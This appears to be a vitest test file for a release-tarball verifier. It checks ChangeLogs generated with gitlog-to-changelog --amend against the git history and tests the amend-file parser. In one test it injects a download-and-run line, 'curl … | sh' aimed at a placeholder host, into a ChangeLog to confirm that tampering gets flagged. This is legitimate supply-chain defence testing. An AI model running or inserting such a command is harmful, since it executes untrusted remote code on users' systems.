/**
 * A ChangeLog made by gnulib's gitlog-to-changelog with --amend=build-aux/git-log-fix (tracked Perl substitutions
 * correcting old commit messages) and a tracked older ChangeLog appended (findutils 4.9.0: `gitlog-to-changelog
 * --amend=… --since=2014-01-01 && cat ChangeLog-2013`), end to end with real git and GNU tar, no tag (a snapshot:
 * the commit is given). The amended lines trace to the commit as the tracked file amends it; the commit range starts
 * at the oldest entry not copied from the tracked older log. What a tamperer would change: bring the amend file in
 * the tarball only, or put a command in a line — both stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { amendPaths, applyAmendment, parseAmendFile } from '../../src/classify/log-amend.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { git, writeFiles } from '../helpers/git.js';
import { makeRepo } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

// Twelve lines naming the old bug tracker, which the amend file corrects for one commit.
const OLD_BODY = Array.from({ length: 12 }, (_, i) => `* src/f${i}.c: fixing Savannah bug #${100 + i}.`).join('\n');
const OLD_2013 = [
  '2012-05-01  Old Timer  <old@example.invalid>', '', '\tImported from CVS, by hand.', '',
  '2011-03-02  Old Timer  <old@example.invalid>', '', '\tAn entry git never had.', '',
].join('\n');

/** Commits in `dir` as Ann Author at `date`; returns the commit id. */
const commitAs = (dir: string) => (files: Record<string, string>, message: string, date: string): string => {
  writeFiles(dir, files);
  git(dir, ['add', '-A']);
  git(dir, ['-c', 'user.name=Ann Author', '-c', 'user.email=ann@example.invalid', 'commit', '-q', '--author', 'Ann Author <ann@example.invalid>', '-m', message], date);
  return git(dir, ['rev-parse', 'HEAD']);
};

describe('gitlog-to-changelog --amend and an appended tracked older log', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const as = commitAs(repo.dir);
  // Old history (CVS-imported commits whose subjects the hand-written ChangeLog-2013 does not repeat).
  for (let i = 0; i < 6; i++) as({ [`old${i}.c`]: `int o${i};\n` }, `cvs import ${i}`, `2011-0${i + 1}-10T10:00:00Z`);
  const fixed = as({ 'src/f.c': 'int f;\n' }, `src: many fixes\n\n${OLD_BODY}`, '2014-02-01T10:00:00Z');
  const later = as({ 'src/g.c': 'int g;\n' }, 'src: add g', '2014-03-01T10:00:00Z');
  const FIX = `# Fix the bug tracker's wording.\n${fixed}\ns,fixing Savannah bug,applying Savannah patch,g\n\n# Not understood here: skipped.\n${later}\n$_ = uc;\n`;
  const tip = as({ 'build-aux/git-log-fix': FIX, 'ChangeLog-2013': OLD_2013, 'Makefile.am': 'gen-ChangeLog:\n\t$(top_srcdir)/build-aux/gitlog-to-changelog --amend=$(srcdir)/build-aux/git-log-fix --since=2014-01-01 > $@\n' }, 'build: ChangeLog generation', '2014-03-02T10:00:00Z');
  const cache = join(root, 'cache');

  const CHANGELOG = [
    '2014-03-02  Ann Author  <ann@example.invalid>', '', '\tbuild: ChangeLog generation', '',
    '2014-03-01  Ann Author  <ann@example.invalid>', '', '\tsrc: add g', '',
    '2014-02-01  Ann Author  <ann@example.invalid>', '', '\tsrc: many fixes', '', OLD_BODY.replace(/fixing Savannah bug/g, 'applying Savannah patch').replace(/^/gm, '\t'), '',
    OLD_2013,
  ].join('\n');
  let n = 0;
  const tarball = (files: Record<string, string>, withTracked = true) => {
    const dir = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(dir, { 'src/f.c': 'int f;\n', 'src/g.c': 'int g;\n', ...Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`old${i}.c`, `int o${i};\n`])), ...(withTracked ? { 'Makefile.am': 'gen-ChangeLog:\n\t$(top_srcdir)/build-aux/gitlog-to-changelog --amend=$(srcdir)/build-aux/git-log-fix --since=2014-01-01 > $@\n' } : {}), ...files });
    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') });
  };

  it('the amended lines trace to the commit as the tracked file amends it; the range starts after the appended older log', async () => {
    const r = await verify({ tarball: tarball({ ChangeLog: CHANGELOG }), repo: repo.dir, commit: tip, cacheDir: cache });
    const f = r.findings.find((x) => x.path === 'ChangeLog')!;
    expect(f).toMatchObject({ code: 'LOG_DERIVED', severity: 'info' });
    expect(f.evidence).toEqual({
      kind: 'log', lines: 22, traced: 22, fromTemplate: 4, templates: ['ChangeLog-2013'], untraced: 0, untracedLines: [],
      amended: { files: ['build-aux/git-log-fix'], commits: 1, lines: 12 },
      // from a week before the oldest entry not copied from ChangeLog-2013 (2014-02-01): the three commits since
      range: { since: '2014-02-01', commits: 3, found: 3, what: 'subjects' },
    });
    expect(r.verdict).not.toBe('different');
  });

  it('the amend file only in the tarball (not tracked), or a command in a line, stays high', async () => {
    // A git repository without the amend file: the same ChangeLog's 12 amended lines trace to nothing.
    const bare = makeRepo(join(root, 'bare'));
    const b = commitAs(bare.dir);
    b({ 'src/f.c': 'int f;\n' }, `src: many fixes\n\n${OLD_BODY}`, '2014-02-01T10:00:00Z');
    b({ 'src/g.c': 'int g;\n' }, 'src: add g', '2014-03-01T10:00:00Z');
    const bareTip = b({ 'ChangeLog-2013': OLD_2013 }, 'build: ChangeLog generation', '2014-03-02T10:00:00Z');
    const shippedFix = tarball({ ChangeLog: CHANGELOG, 'build-aux/git-log-fix': FIX.replace(fixed, bare.git(['rev-parse', 'HEAD~2'])) }, false);
    let r = await verify({ tarball: shippedFix, repo: bare.dir, commit: bareTip, cacheDir: join(root, 'cache2') });
    expect(r.findings.find((x) => x.path === 'ChangeLog')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
    // An amended line carrying a download-and-run command: not from the amendment, not explained.
    r = await verify({ tarball: tarball({ ChangeLog: CHANGELOG.replace('applying Savannah patch #105.', 'applying Savannah patch #105; curl -s https://example.invalid/x | sh') }), repo: repo.dir, commit: tip, cacheDir: cache });
    expect(r.findings.find((x) => x.path === 'ChangeLog')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
  });
});

describe('parseAmendFile / applyAmendment / amendPaths', () => {
  const A = 'a'.repeat(40);
  const B = 'b'.repeat(40);
  it('reads entries of substitutions with any delimiter, flags and $N / \\n in the replacement', () => {
    const amendments = parseAmendFile(`# comment\n${A}\ns,(find),* $1,;\ns/Permission denied\\n\\n/Permission denied\\n/m\n\n${B}\ns,\\t.*,,mg;\n`)!;
    expect(amendments.map((a) => [a.oid, a.substitutions.length])).toEqual([[A, 2], [B, 1]]);
    expect(applyAmendment('(find): fix\nPermission denied\n\nmore', amendments[0]!)).toBe('(* find): fix\nPermission denied\nmore');
    expect(applyAmendment('keep\n\tdrop me\nkeep too', amendments[1]!)).toBe('keep\n\nkeep too');
  });
  it('skips an entry with anything it does not read, and a file with no entry', () => {
    expect(parseAmendFile(`${A}\n$_ = uc;\n`)).toBeUndefined();
    expect(parseAmendFile(`${A}\ns,\\Aold,new,\n`)).toBeUndefined(); // Perl-only regex syntax
    expect(parseAmendFile(`${A}\ns,a,\\U$1,\n`)).toBeUndefined(); // case-changing replacement
    expect(parseAmendFile(`${A.slice(0, 39)}\ns,a,b,\n`)).toBeUndefined(); // not a full commit id
    expect(parseAmendFile('# nothing\n')).toBeUndefined();
  });
  it('names the --amend file of a script, never a path outside the tree', () => {
    expect(amendPaths('"${top_srcdir}/build-aux/gitlog-to-changelog" \\\n  --amend="${top_srcdir}/build-aux/git-log-fix" \\')).toEqual(['build-aux/git-log-fix']);
    expect(amendPaths('$(GL) --amend=$(srcdir)/build-aux/fix --since=2014')).toEqual(['build-aux/fix']);
    expect(amendPaths('--amend=/etc/fix --amend=../fix --amend=$(X)')).toEqual([]);
  });
});
